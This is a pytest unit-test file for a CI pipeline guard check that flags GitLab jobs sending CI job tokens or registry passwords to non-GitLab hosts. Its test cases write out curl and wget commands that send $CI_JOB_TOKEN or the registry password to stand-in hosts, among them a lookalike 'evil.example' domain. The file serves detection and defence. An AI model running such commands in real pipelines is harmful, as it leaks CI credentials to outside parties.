# SPDX-License-Identifier: Apache-2.0
"""gitlab-token-sent."""

from __future__ import annotations

import pytest

from pipeline_guard.gate.checks.gitlab_token_sent import check
from tests.unit.gate.checking import failing, pipeline


@pytest.mark.parametrize(
    ("command", "host"),
    [
        ('curl -H "JOB-TOKEN: $CI_JOB_TOKEN" https://collector.example/x', "collector.example"),
        ("curl --data token=$CI_JOB_TOKEN http://gitlab.com/api/v4/x", "gitlab.com"),
        ('wget --header="X: ${CI_REGISTRY_PASSWORD}" -qO- https://gitlab.example.org.evil.example/x || true', ""),
        ("curl -u gitlab-ci-token:$CI_JOB_TOKEN https://user@files.example/a", "files.example"),
    ],
)
def test_token_for_another_host_fails(command: str, host: str) -> None:
    found = failing(check, pipeline(f"job:\n  script:\n    - 'true'\n    - {command!r}\n"))
    assert [line for _, line in found] == ([4] if host else [])
    assert all(host in what for what, _ in found)


@pytest.mark.parametrize(
    "command",
    [
        'curl -H "JOB-TOKEN: $CI_JOB_TOKEN" "$CI_API_V4_URL/projects/1"',
        'curl -H "JOB-TOKEN: $CI_JOB_TOKEN" "https://${CI_SERVER_HOST}/api/v4/projects/1"',
        'curl -H "JOB-TOKEN: $CI_JOB_TOKEN" https://code.example/api/v4/projects/1',
        'curl -H "X: $OTHER_TOKEN" https://collector.example/x',
        "docker login -p $CI_JOB_TOKEN https://registry.example",
        "curl https://collector.example/x",
    ],
)
def test_gitlab_itself_other_tokens_and_other_programs_pass(command: str) -> None:
    assert failing(check, pipeline(f"job:\n  script:\n    - {command!r}\n")) == []
